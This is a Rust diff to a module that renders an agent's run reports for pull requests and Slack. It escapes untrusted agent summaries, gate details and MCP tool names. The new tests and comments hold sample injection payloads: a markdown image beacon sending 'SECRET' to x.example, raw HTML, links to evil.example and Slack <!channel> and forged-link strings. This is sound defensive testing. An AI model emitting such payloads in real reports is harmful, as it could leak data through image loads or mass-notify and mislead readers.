@@ -4,10 +4,15 @@
 //! where blocks cannot render).
 //!
 //! Owns how a report reads; it must not change the report, compute gates or send anything.
+//!
+//! Untrusted text is made inert in each rendering (`crate::untrusted`): the agent's summary,
+//! gate details (they quote test output and file names), reasons (they quote details) and
+//! tool names (MCP servers choose them) never become markup in the PR or in Slack.
 
 use serde_json::{Value, json};
 
 use crate::report::{Decision, GateStatus, RunReport};
+use crate::untrusted::{markdown_block, markdown_code, markdown_inline, mrkdwn};
 
 fn decision_line(d: Decision) -> &'static str {
     match d {
@@ -37,13 +42,17 @@ fn status_word(s: GateStatus) -> &'static str {
     }
 }
 
-/// Escapes text for a Markdown table cell.
+/// Untrusted text for a Markdown table cell: one line, `|` escaped, nothing live.
 fn cell(s: &str) -> String {
-    s.replace('|', "\\|").replace('\n', " ")
+    markdown_inline(s, true)
 }
 
 /// The PR body: summary, decision and reasons, the gate table, cost and timings, and the
 /// tools and tool calls collapsed. `summary` is the agent's; `thread_url` the Slack thread.
+///
+/// The summary is shown verbatim in a fenced block (a fence longer than any backtick run in
+/// it), not rendered: the agent's text could otherwise load a remote image when the PR is
+/// viewed (`![](https://x/?d=…)`), inject HTML, or close the report's own `<details>`.
 pub fn markdown(
     r: &RunReport,
     summary: Option<&str>,
@@ -52,7 +61,8 @@ pub fn markdown(
 ) -> String {
     let mut md = String::new();
     if let Some(s) = summary {
-        md.push_str(&format!("{}\n\n", s.trim()));
+        md.push_str(&markdown_block(s));
+        md.push('\n');
     }
     if let Some(u) = thread_url {
         md.push_str(&format!("Requested in [this Slack thread]({u}).\n\n"));
@@ -65,7 +75,7 @@ pub fn markdown(
         r.fix_rounds
     ));
     for reason in &r.reasons {
-        md.push_str(&format!("- {}\n", reason));
+        md.push_str(&format!("- {}\n", markdown_inline(reason, false)));
     }
     md.push_str("\n| gate | status | detail |\n|---|---|---|\n");
     for g in &r.gates {
@@ -94,7 +104,7 @@ pub fn markdown(
         r.tools.len(),
         r.tools
             .iter()
-            .map(|t| format!("`{t}`"))
+            .map(|t| markdown_code(t))
             .collect::<Vec<_>>()
             .join(", ")
     ));
@@ -105,8 +115,9 @@ pub fn markdown(
         ));
         for (i, (name, ok)) in tool_calls.iter().enumerate() {
             md.push_str(&format!(
-                "{}. `{name}`{}\n",
+                "{}. {}{}\n",
                 i + 1,
+                markdown_code(name),
                 if *ok { "" } else { " (error)" }
             ));
         }
@@ -146,10 +157,12 @@ pub fn plain_text(r: &RunReport) -> String {
 
 /// Slack Block Kit for the final report: `{"text": fallback, "blocks": [...]}`.
 /// Limits (Slack: section text ≤ 3000 chars, ≤ 10 fields) are respected by truncation.
+/// Details, reasons and tool names are escaped for mrkdwn, so tool output cannot notify
+/// (`<!channel>`, `<@U…>`) or forge a link (`<https://…|label>`).
 pub fn block_kit(r: &RunReport) -> Value {
     let link = match &r.pr_url {
         Some(u) => format!("<{u}|Pull request>"),
-        None => format!("Branch `{}`", r.branch),
+        None => format!("Branch `{}`", mrkdwn(&r.branch)),
     };
     let gates: String = r
         .gates
@@ -159,7 +172,7 @@ pub fn block_kit(r: &RunReport) -> Value {
                 "{} *{}* {}",
                 gate_mark(g.status),
                 g.name,
-                crate::task::truncate_chars(&g.detail, 140)
+                mrkdwn(&crate::task::truncate_chars(&g.detail, 140))
             )
         })
         .collect::<Vec<_>>()
@@ -167,10 +180,10 @@ pub fn block_kit(r: &RunReport) -> Value {
     let reasons: String = r
         .reasons
         .iter()
-        .map(|x| format!("• {x}"))
+        .map(|x| format!("• {}", mrkdwn(x)))
         .collect::<Vec<_>>()
         .join("\n");
-    let tools = r.tools.join(", ");
+    let tools = mrkdwn(&r.tools.join(", "));
     // Slack rejects a section with empty text (`invalid_blocks`).
     let or_dash = |s: String| {
         if s.trim().is_empty() {
@@ -294,5 +307,58 @@ mod tests {
         r.decision = Decision::Halt;
         r.gates[0].status = GateStatus::Fail;
         assert!(plain_text(&r).contains("halt") && plain_text(&r).contains("failed: tests"));
+    }
+
+    /// The agent's summary and every gate detail are untrusted: in the PR body none of them
+    /// may load a remote image, inject HTML, link out, or close the report's own structure.
+    #[test]
+    fn an_untrusted_summary_and_gate_details_are_inert_in_the_pr_body() {
+        let summary = "Done.\n![](https://x.example/?d=SECRET)\n<img src=https://x.example/a>\n```\n</details>\n<https://evil.example/>";
+        let mut r = report();
+        r.gates[0].status = GateStatus::Fail;
+        r.gates[0].detail = "`pytest` failed (exit 1): ![](https://x.example/?d=k) <img src=x> [click](https://evil.example) </details>".into();
+        r.reasons = vec![format!("tests gate failed: {}", r.gates[0].detail)];
+        let md = markdown(&r, Some(summary), None, &[]);
+        // The summary sits whole inside a fence no line of it can close.
+        let fence: String = md.chars().take_while(|c| *c == '`').collect();
+        assert!(fence.len() > 3, "{md}");
+        let body = md
+            .strip_prefix(&format!("{fence}text\n"))
+            .and_then(|rest| rest.split_once(&format!("\n{fence}\n")))
+            .map(|(inside, _)| inside);
+        assert_eq!(body, Some(summary));
+        assert!(!summary.lines().any(|l| l.trim_start().starts_with(&fence)));
+        // Outside the fence: no image, no HTML, no link from a gate's detail.
+        let after = md
+            .split_once(&format!("\n{fence}\n"))
+            .map(|(_, a)| a)
+            .unwrap();
+        // What GitHub renders: a backslash-escaped character is text.
+        let live = regex::Regex::new(r"\\.").unwrap().replace_all(after, "");
+        for bad in ["![", "](", "<img", "</details> |", "<https", "https://x"] {
+            assert!(!live.contains(bad), "{bad:?} in\n{after}");
+        }
+        assert!(after.contains("`pytest` failed"), "{after}");
+    }
+
+    /// Gate details, reasons and tool names are text in Slack, never markup: no
+    /// `<!channel>`, no mention, no forged link.
+    #[test]
+    fn gate_details_cannot_ping_or_link_in_slack() {
+        let mut r = report();
+        r.gates[0].detail = "<!channel> <@U0BOSS> <https://evil.example|click> & co".into();
+        r.reasons = vec!["<!here> look".into()];
+        r.tools.push("<!everyone>".into());
+        let kit = block_kit(&r).to_string();
+        for bad in [
+            "<!channel>",
+            "<@U0BOSS>",
+            "<https://evil",
+            "<!here>",
+            "<!everyone>",
+        ] {
+            assert!(!kit.contains(bad), "{bad:?} in {kit}");
+        }
+        assert!(kit.contains("&lt;!channel&gt; &lt;@U0BOSS&gt;") && kit.contains("&amp; co"));
     }
 }
